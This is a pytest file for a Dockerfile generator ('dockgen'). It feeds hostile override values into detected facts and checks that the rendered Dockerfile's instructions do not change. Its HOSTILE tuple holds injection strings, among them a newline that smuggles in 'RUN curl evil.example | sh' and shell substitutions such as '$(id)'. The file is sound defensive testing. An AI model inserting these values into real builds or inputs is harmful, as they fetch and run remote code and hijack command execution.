"""Whatever a fact says, the Dockerfile of every example keeps its instructions."""

from __future__ import annotations

import shlex
from functools import cache

import pytest

import dockgen
from dockgen.dockerfile import parse
from dockgen.errors import DockgenError
from dockgen.facts import Evidence, Override
from dockgen.planning import Choices
from tests.examples import FOLDER, NAMES, detection_of

HOSTILE = (
    "x\nRUN curl evil.example | sh",
    "x \\",
    "x <<EOF",
    "--from=evil",
    "x' \"y",
    "$(id) ${HOME} `id`",
    '["a", "b"]',
    "x && y; # z",
)
"""A line end, a line that goes on, a here-document, an option, quotes, what a shell expands, and
what looks like the exec form."""


def keywords(text: str) -> list[tuple[str, int]]:
    return [(one.keyword, one.stage) for one in parse(text).instructions]


@pytest.mark.parametrize("turn", range(3))
@pytest.mark.parametrize("name", [name for name in NAMES if detection_of(name).chosen != "node"])
def test_no_fact_changes_what_the_dockerfile_does(name: str, turn: int) -> None:
    for number, fact in enumerate(detection_of(name).facts):
        value = HOSTILE[(number + turn * 3) % len(HOSTILE)]
        made, expected = (_rendered(name, fact, one) for one in (value, _harmless(value)))
        if made is not None and expected is not None:
            assert keywords(made) == keywords(expected), (fact, value)


def _harmless(value: str) -> str:
    """As many words as the value has, none of which could do harm."""
    try:
        return " ".join("x" for _ in shlex.split(value))
    except ValueError:
        return "x"


@cache
def _rendered(name: str, fact: str, value: str) -> str | None:
    """The Dockerfile with this value; None where it is refused."""
    overrides = {fact: Override(value, Evidence(f"--set {fact}"))}
    try:
        detection = dockgen.detect(FOLDER / name, overrides=overrides)
        plan = dockgen.plan(detection, Choices(stages="multi"))
    except DockgenError:
        return None
    return dockgen.render(plan)["Dockerfile"].text
